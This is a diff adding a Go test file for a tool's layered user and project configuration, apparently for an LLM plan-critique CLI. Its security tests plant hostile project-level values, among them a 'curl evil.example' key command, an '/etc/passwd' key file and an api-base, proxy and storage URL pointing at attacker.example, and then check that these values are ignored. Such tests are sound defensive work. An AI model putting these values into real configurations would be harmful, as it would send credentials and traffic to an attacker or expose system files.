@@ -0,0 +1,200 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestLoadFileMissing(t *testing.T) {
+	c, err := LoadFile(filepath.Join(t.TempDir(), "nope.yaml"))
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if len(c.Defaults) != 0 {
+		t.Errorf("expected empty config, got %+v", c)
+	}
+}
+
+func TestLoadFileInvalid(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "bad.yaml")
+	if err := os.WriteFile(path, []byte("defaults: [unterminated"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadFile(path); err == nil {
+		t.Error("expected parse error")
+	}
+}
+
+func TestSaveRoundtrip(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "sub", "config.yaml")
+	if err := Save(path, &Config{Defaults: map[string]string{"profile": "go-backend"}}); err != nil {
+		t.Fatal(err)
+	}
+	c, err := LoadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if c.Defaults["profile"] != "go-backend" {
+		t.Errorf("profile = %q, want go-backend", c.Defaults["profile"])
+	}
+}
+
+func TestLoadProjectOverridesUser(t *testing.T) {
+	dir := t.TempDir()
+	userPath := filepath.Join(dir, "user.yaml")
+	t.Setenv("PLANCRITIC_CONFIG", userPath)
+	t.Chdir(dir)
+
+	if err := Save(userPath, &Config{Defaults: map[string]string{"profile": "general", "model": "gpt-5.2"}}); err != nil {
+		t.Fatal(err)
+	}
+	if err := Save(ProjectPath, &Config{Defaults: map[string]string{"profile": "go-backend"}}); err != nil {
+		t.Fatal(err)
+	}
+
+	s, err := Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if v, path, _ := s.Default("profile"); v != "go-backend" || path != ProjectPath {
+		t.Errorf("profile = %q from %q, want go-backend from project", v, path)
+	}
+	if v, path, _ := s.Default("model"); v != "gpt-5.2" || path != userPath {
+		t.Errorf("model = %q from %q, want gpt-5.2 from user", v, path)
+	}
+	if _, _, ok := s.Default("format"); ok {
+		t.Error("expected format to be unset")
+	}
+	if got := s.Keys(); len(got) != 2 || got[0] != "model" || got[1] != "profile" {
+		t.Errorf("Keys() = %v", got)
+	}
+}
+
+func TestSetThemeMerge(t *testing.T) {
+	s := &Set{Layers: []Layer{
+		{Path: "user", Config: &Config{Theme: &Theme{Labels: map[string]string{"critical": "Blocker", "warn": "Major"}}}},
+		{Path: "project", Config: &Config{Theme: &Theme{Labels: map[string]string{"WARN": "Should fix"}, Icons: map[string]string{"info": "ℹ️"}}}},
+	}}
+	th := s.Theme()
+	if th.Labels["critical"] != "Blocker" || th.Labels["warn"] != "Should fix" || th.Icons["info"] != "ℹ️" {
+		t.Errorf("unexpected merged theme: %+v", th)
+	}
+}
+
+func TestSetAlias(t *testing.T) {
+	s := &Set{Layers: []Layer{
+		{Path: "user", Config: &Config{Aliases: map[string]string{"fast": "openai:gpt-4o-mini", "best": "anthropic:claude-opus-4"}}},
+		{Path: "project", Config: &Config{Aliases: map[string]string{"fast": "gemini:gemini-2.5-flash"}}},
+	}}
+	aliases := s.Aliases()
+	if v := aliases["fast"]; v != "gemini:gemini-2.5-flash" {
+		t.Errorf("fast = %q; want project alias", v)
+	}
+	if v := aliases["best"]; v != "anthropic:claude-opus-4" {
+		t.Errorf("best = %q; want user alias", v)
+	}
+	if _, ok := aliases["gpt-5.2"]; ok {
+		t.Error("expected gpt-5.2 not to be an alias")
+	}
+	var nilSet *Set
+	if len(nilSet.Aliases()) != 0 {
+		t.Error("expected nil set to have no aliases")
+	}
+}
+
+func TestSetClassifications(t *testing.T) {
+	s := &Set{Layers: []Layer{
+		{Path: "user", Config: &Config{Classifications: map[string][]string{"Confidential": {"local"}, "internal": {"anthropic"}}}},
+		{Path: "project", Config: &Config{Classifications: map[string][]string{"confidential": {"local:llama3*"}}}},
+	}}
+	c := s.Classifications()
+	if got := c["confidential"]; len(got) != 1 || got[0] != "local:llama3*" {
+		t.Errorf("confidential = %v, want the project policy", got)
+	}
+	if got := c["internal"]; len(got) != 1 || got[0] != "anthropic" {
+		t.Errorf("internal = %v, want the user policy", got)
+	}
+	var nilSet *Set
+	if len(nilSet.Classifications()) != 0 {
+		t.Error("expected nil set to have no classifications")
+	}
+}
+
+func TestSetAPIKeysIgnoreProject(t *testing.T) {
+	s := &Set{Layers: []Layer{
+		{Path: "user", Config: &Config{
+			APIKeyCmds:  map[string]string{"OpenAI": "op read op://Private/OpenAI/credential"},
+			APIKeyFiles: map[string]string{"anthropic": "/home/me/.anthropic-key"},
+		}},
+		{Path: ProjectPath, Config: &Config{
+			APIKeyCmds:  map[string]string{"openai": "curl evil.example"},
+			APIKeyFiles: map[string]string{"gemini": "/etc/passwd"},
+		}},
+	}}
+	cmds := s.APIKeyCmds()
+	if len(cmds) != 1 || cmds["openai"] != "op read op://Private/OpenAI/credential" {
+		t.Errorf("cmds = %v, want only the user command", cmds)
+	}
+	files := s.APIKeyFiles()
+	if len(files) != 1 || files["anthropic"] != "/home/me/.anthropic-key" {
+		t.Errorf("files = %v, want only the user file", files)
+	}
+}
+
+func TestSetDefaultUserOnlyKeys(t *testing.T) {
+	s := &Set{Layers: []Layer{
+		{Path: "user", Config: &Config{Defaults: map[string]string{"provider-profile": "direct"}}},
+		{Path: ProjectPath, Config: &Config{Defaults: map[string]string{
+			"provider-profile": "team",
+			"api-base":         "http://attacker.example/v1",
+			"proxy":            "http://attacker.example:3128",
+			"ca-cert":          "certs/attacker.pem",
+			"storage":          "redis",
+			"storage-url":      "redis://attacker.example:6379",
+			"cache":            "true",
+			"log-llm":          "transcripts",
+			"model":            "gpt-5.2",
+		}}},
+	}}
+	if v, path, ok := s.Default("provider-profile"); !ok || v != "direct" || path != "user" {
+		t.Errorf("provider-profile = %q from %q, want the user value", v, path)
+	}
+	for _, key := range []string{"api-base", "proxy", "ca-cert", "storage", "storage-url", "cache", "log-llm"} {
+		if v, _, ok := s.Default(key); ok {
+			t.Errorf("%s = %q, want the project value ignored", key, v)
+		}
+	}
+	if v, path, ok := s.Default("model"); !ok || v != "gpt-5.2" || path != ProjectPath {
+		t.Errorf("model = %q from %q, want the project value", v, path)
+	}
+}
+
+func TestSetProviderProfile(t *testing.T) {
+	s := &Set{Layers: []Layer{
+		{Path: "user", Config: &Config{ProviderProfiles: map[string]ProviderProfile{
+			"direct":  {Provider: "anthropic", APIKeyCmd: "op read op://Private/Anthropic/credential"},
+			"gateway": {Provider: "openai", APIBase: "https://gw.example.com/v1"},
+		}}},
+		{Path: ProjectPath, Config: &Config{ProviderProfiles: map[string]ProviderProfile{
+			"gateway": {Provider: "openai", APIBase: "https://gw.internal/v1", APIKeyCmd: "curl evil.example", MaxTokens: 8192},
+		}}},
+	}}
+	p, path, ok := s.ProviderProfile("direct")
+	if !ok || path != "user" || p.APIKeyCmd == "" {
+		t.Errorf("direct = %+v from %q, want the user profile with its key command", p, path)
+	}
+	p, path, ok = s.ProviderProfile("gateway")
+	if !ok || path != ProjectPath || p.MaxTokens != 8192 {
+		t.Errorf("gateway = %+v from %q, want the project profile", p, path)
+	}
+	if p.APIKeyCmd != "" || p.APIBase != "" || p.Provider != "" {
+		t.Errorf("project profile kept provider %q, api_base %q, or api_key_cmd %q", p.Provider, p.APIBase, p.APIKeyCmd)
+	}
+	if _, _, ok := s.ProviderProfile("missing"); ok {
+		t.Error("missing profile found")
+	}
+	if names := s.ProviderProfileNames(); len(names) != 2 || names[0] != "direct" || names[1] != "gateway" {
+		t.Errorf("names = %v", names)
+	}
+}